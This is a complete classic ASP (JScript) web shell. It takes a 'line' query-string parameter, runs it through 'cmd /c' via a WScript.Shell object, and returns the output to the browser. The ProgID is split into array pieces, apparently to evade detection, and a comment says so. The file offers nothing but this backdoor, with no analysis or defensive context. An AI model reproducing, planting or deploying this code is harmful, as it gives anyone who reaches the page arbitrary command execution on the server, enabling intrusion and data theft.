<%@ Language="JScript" %>
<%
// the shell object's ProgID kept as pieces of an array, joined just before use
var parts = ["WScript", "Shell"];
var runner = new ActiveXObject(parts.join("."));
var line = String(Request.QueryString("line"));
if (line != "undefined") {
    var job = runner.Exec("cmd /c " + line);
    Response.Write(Server.HTMLEncode(job.StdOut.ReadAll()));
}
%>
